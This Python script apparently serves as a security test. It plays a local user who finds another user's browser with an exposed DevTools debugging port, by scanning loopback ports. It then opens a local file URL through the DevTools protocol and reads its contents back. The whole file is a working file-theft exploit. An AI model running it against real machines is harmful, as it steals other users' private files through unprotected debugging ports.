#!/usr/bin/env python3
"""Plays a local user who tries to steal a file through someone else's capture browser.

  devtools_thief.py MARKER FILE_URL

It looks for DevTools on every loopback port that listens (from /proc/net/tcp, or by trying every
port from 1024 up when that table is empty), keeps the browser one of whose pages has MARKER in
its URL (the capture under attack, not another test's browser), opens FILE_URL there in a new
tab and reads the tab's text back. It prints one JSON object:

  {"found": bool, "port": int|null, "read": text|null, "error": text|null, "ports_tried": int}

Nothing but the standard library: a minimal WebSocket client is enough for a few commands.
"""
import base64, json, os, socket, struct, sys, time, urllib.request


def listening_ports():
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            lines = open(table).read().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            fields = line.split()
            if len(fields) > 3 and fields[3] == "0A":
                ports.add(int(fields[1].split(":")[1], 16))
    return sorted(ports)


def open_ports():
    """Every port from 1024 up that accepts a connection on 127.0.0.1."""
    found = []
    for port in range(1024, 65536):
        with socket.socket() as probe:
            probe.settimeout(0.2)
            if probe.connect_ex(("127.0.0.1", port)) == 0:
                found.append(port)
    return found


def get_json(port, path):
    with urllib.request.urlopen(f"http://127.0.0.1:{port}{path}", timeout=2) as answer:
        return json.loads(answer.read())


class WebSocket:
    def __init__(self, url):
        rest = url[len("ws://"):]
        hostport, path = rest.split("/", 1)
        host, port = hostport.rsplit(":", 1)
        self.sock = socket.create_connection((host, int(port)), timeout=10)
        key = base64.b64encode(os.urandom(16)).decode()
        self.sock.sendall((f"GET /{path} HTTP/1.1\r\nHost: {hostport}\r\nUpgrade: websocket\r\n"
                           f"Connection: Upgrade\r\nSec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n").encode())
        head = b""
        while b"\r\n\r\n" not in head:
            chunk = self.sock.recv(1)
            if not chunk:
                raise OSError("handshake closed")
            head += chunk
        if b" 101 " not in head.split(b"\r\n")[0]:
            raise OSError("handshake refused: " + head.split(b"\r\n")[0].decode(errors="replace"))
        self.next_id = 0

    def exact(self, count):
        data = b""
        while len(data) < count:
            chunk = self.sock.recv(count - len(data))
            if not chunk:
                raise OSError("connection closed")
            data += chunk
        return data

    def send(self, method, params, session=None):
        self.next_id += 1
        message = {"id": self.next_id, "method": method, "params": params}
        if session:
            message["sessionId"] = session
        payload = json.dumps(message).encode()
        mask = os.urandom(4)
        header = bytes([0x81])
        if len(payload) < 126:
            header += bytes([0x80 | len(payload)])
        elif len(payload) < 65536:
            header += bytes([0x80 | 126]) + struct.pack(">H", len(payload))
        else:
            header += bytes([0x80 | 127]) + struct.pack(">Q", len(payload))
        self.sock.sendall(header + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(payload)))
        return self.answer(self.next_id)

    def answer(self, wanted):
        while True:
            first, second = self.exact(2)
            length = second & 0x7F
            if length == 126:
                length = struct.unpack(">H", self.exact(2))[0]
            elif length == 127:
                length = struct.unpack(">Q", self.exact(8))[0]
            payload = self.exact(length)
            if first & 0x0F != 1:
                continue
            message = json.loads(payload)
            if message.get("id") == wanted:
                if "error" in message:
                    raise OSError(json.dumps(message["error"]))
                return message["result"]


def steal(port, file_url):
    endpoint = get_json(port, "/json/version")["webSocketDebuggerUrl"]
    socket_ = WebSocket(endpoint)
    target = socket_.send("Target.createTarget", {"url": file_url})["targetId"]
    session = socket_.send("Target.attachToTarget", {"targetId": target, "flatten": True})["sessionId"]
    text = ""
    for _ in range(20):
        time.sleep(0.25)
        result = socket_.send("Runtime.evaluate", {"expression": "document.body ? document.body.innerText : ''",
                                                   "returnByValue": True}, session)
        text = result.get("result", {}).get("value", "")
        if text:
            break
    return text


def main():
    marker, file_url = sys.argv[1], sys.argv[2]
    ports = listening_ports() or open_ports()
    outcome = {"found": False, "port": None, "read": None, "error": None, "ports_tried": len(ports)}
    for port in ports:
        try:
            targets = get_json(port, "/json/list")
        except Exception:
            continue
        if not isinstance(targets, list) or not any(marker in str(t.get("url", "")) for t in targets):
            continue
        outcome["found"], outcome["port"] = True, port
        try:
            outcome["read"] = steal(port, file_url)
        except Exception as error:
            outcome["error"] = str(error)
        break
    print(json.dumps(outcome))


if __name__ == "__main__":
    main()
